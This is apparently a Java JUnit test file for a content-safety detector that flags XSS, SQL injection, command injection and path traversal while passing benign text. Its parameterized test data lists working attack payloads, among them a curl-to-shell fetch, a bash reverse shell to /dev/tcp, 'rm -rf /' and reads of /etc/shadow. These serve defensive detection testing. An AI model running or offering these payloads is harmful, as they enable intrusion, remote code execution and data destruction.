package io.safla.safety;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ContentSafetyLayerTest {

    private final ContentSafetyLayer layer = new ContentSafetyLayer();

    private List<Finding> scan(String text, SafetyLevel level) {
        return layer.evaluate(SafetyInput.of(text, level)).findings();
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = " => ",
            quoteCharacter = '\u00a7',
            value = {
                "<script>alert(1)</script> => HTML_JS_INJECTION",
                "<img src=x onerror=alert(1)> => HTML_JS_INJECTION",
                "<a href=\"javascript:alert(1)\">x</a> => HTML_JS_INJECTION",
                "<svg/onload=alert(1)> => HTML_JS_INJECTION",
                "&lt;script&gt;alert(1)&lt;/script&gt; => HTML_JS_INJECTION",
                "%3Cscript%3Ealert(1)%3C/script%3E => HTML_JS_INJECTION",
                "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e => HTML_JS_INJECTION",
                "' OR 1=1 -- => SQL_INJECTION",
                "x' or 'a'='a => SQL_INJECTION",
                "1 UNION SELECT null, password FROM users-- => SQL_INJECTION",
                "1; DROP TABLE users => SQL_INJECTION",
                "1' AND SLEEP(5)-- => SQL_INJECTION",
                "UN/**/ION SEL/**/ECT 1 => SQL_INJECTION",
                "; rm -rf / => COMMAND_INJECTION",
                "$(curl http://x.test/a | sh) => COMMAND_INJECTION",
                "name=`whoami` => COMMAND_INJECTION",
                "curl http://x.test/i.sh | bash => COMMAND_INJECTION",
                "bash -i >& /dev/tcp/1.2.3.4/80 0>&1 => COMMAND_INJECTION",
                "../../../../etc/passwd => PATH_TRAVERSAL",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd => PATH_TRAVERSAL",
                "file:///etc/shadow => PATH_TRAVERSAL"
            })
    void evaluate_attackPayload_isFlaggedAsCategoryAtPermissive(String payload, Category expected) {
        List<Finding> fs = scan(payload, SafetyLevel.PERMISSIVE);
        assertThat(Findings.categories(fs)).contains(expected);
        assertThat(fs).anyMatch(f -> f.severity().compareTo(Severity.HIGH) >= 0);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "How does a SQL SELECT with a JOIN work?",
                "What's the difference between UNION and UNION ALL?",
                "XSS happens when untrusted data is placed in a page without escaping.",
                "Once the sauce thickens, kill the heat.",
                "Use `ls -la` to list hidden files.",
                "The config is at ../config/settings.yml relative to the app.",
                "Read 'JavaScript: The Good Parts' first.",
                "Tom & Jerry; cat videos are popular.",
                "Run the migration; update the docs afterwards."
            })
    void evaluate_hardBenignText_hasNoFindingAtModerate(String text) {
        assertThat(scan(text, SafetyLevel.MODERATE)).isEmpty();
    }

    @Test
    void evaluate_encodedPayload_reportsSpanInOriginalText() {
        String text = "hi %3Cscript%3Ealert(1)%3C/script%3E bye";
        Finding f = Findings.first(scan(text, SafetyLevel.MODERATE), "xss.script_tag");
        assertThat(f.excerpt(text)).startsWith("%3Cscript").endsWith("%3C/script");
        assertThat(f.message()).contains("after decoding");
    }

    @Test
    void evaluate_plainPayload_spanCoversMatch() {
        String text = "hello ' OR 1=1 -- there";
        Finding f = Findings.first(scan(text, SafetyLevel.MODERATE), "sql.tautology");
        assertThat(f.excerpt(text)).startsWith("' OR 1=1");
        assertThat(f.blocking()).isTrue();
    }

    @Test
    void evaluate_bareMention_onlyAtStrict() {
        String text = "What does DROP TABLE do in Postgres?";
        assertThat(scan(text, SafetyLevel.MODERATE)).isEmpty();
        assertThat(Findings.ruleIds(scan(text, SafetyLevel.STRICT))).contains("sql.destructive_mention");
    }

    @Test
    void rules_haveUniqueIds() {
        assertThat(ContentSafetyLayer.RULES.stream().map(Rule::id).distinct().count())
                .isEqualTo(ContentSafetyLayer.RULES.size());
    }
}
